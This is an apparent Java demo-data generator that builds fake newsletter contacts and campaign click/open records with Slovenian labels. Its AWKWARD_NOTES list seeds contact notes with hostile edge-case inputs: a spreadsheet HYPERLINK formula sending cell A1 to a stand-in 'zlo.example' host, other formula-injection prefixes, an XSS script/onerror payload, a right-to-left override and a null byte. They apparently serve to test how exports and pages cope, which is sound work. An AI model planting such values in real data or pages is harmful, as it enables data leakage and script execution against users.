package si.vpogled.demo.backend.dostavljalec;

import java.time.LocalDate;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import si.vpogled.demo.people.DemoCustomers;
import si.vpogled.demo.people.Dice;
import si.vpogled.demo.people.Names;
import si.vpogled.demo.people.Population;

/** An account's contacts, made when they are asked for: always the same for the same place in the list. */
final class Contacts {
    /** Where in the company's list somebody stands who is no customer. */
    private static final int STRANGER = 42;

    private static final List<String> AWKWARD_NOTES = List.of(
            "=HYPERLINK(\"http://zlo.example/?\"&A1;\"klikni\")",
            "+1+1",
            "-2+3",
            "@SUM(1+1)",
            "<script>alert('č')</script><img src=x onerror=alert(1)>",
            "vrstica ena\nvrstica dve\ttabulator \"narekovaji\"; podpičje, vejica",
            "😀👩‍👩‍👧‍👦 družina, 𝒞𝓇𝓀𝒶, ‮obrnjeno‬ in e\u0301 sestavljen",
            "\u0000ničelni znak je tu");

    private final Population population;
    private final String account;

    Contacts(Population population, String account) {
        this.population = population;
        this.account = account;
    }

    Map<String, Object> contact(int index) {
        Dice dice = population.dice("contact", account, index);
        String name = Names.person(dice);
        String email = Names.plain(name, ".") + "." + index + "@posta.example";
        if (account.equals(DemoCustomers.COMPANY_NEWSLETTER) && index == STRANGER) {
            name = DemoCustomers.STRANGER_NAME;
            email = DemoCustomers.STRANGER_EMAIL;
        }
        LocalDate subscribed = dice.day(population.today().minusYears(3), population.today());
        Map<String, Object> contact = new LinkedHashMap<>();
        contact.put("id", index + 1);
        contact.put("email", email);
        contact.put("name", name);
        contact.put("phone", dice.oneIn(3) ? "+386 31 000 %03d".formatted(dice.below(1000)) : null);
        contact.put("town", dice.of(Names.TOWNS).town());
        contact.put("list", index % 3 == 0 ? "Novice" : "Akcije in popusti");
        contact.put("subscribedAt", subscribed.atTime(8, 30) + ":00Z");
        contact.put("status", dice.oneIn(12) ? "odjavljen" : "prijavljen");
        contact.put("note", index < AWKWARD_NOTES.size() ? AWKWARD_NOTES.get(index) : null);
        return contact;
    }

    /** What one contact did with one campaign. */
    Map<String, Object> action(int index, int campaigns) {
        Dice dice = population.dice("action", account, index);
        boolean click = dice.oneIn(3);
        Map<String, Object> action = new LinkedHashMap<>();
        action.put("id", index + 1);
        action.put("campaign", 1 + dice.below(campaigns));
        action.put("contactEmail", contact(index * 2).get("email"));
        action.put("action", click ? "klik" : "odprtje");
        action.put("link", click ? "https://trgovina.example/akcija/" + dice.below(40) : null);
        action.put("at", dice.time(population.today().minusMonths(6), population.today()) + "Z");
        return action;
    }
}
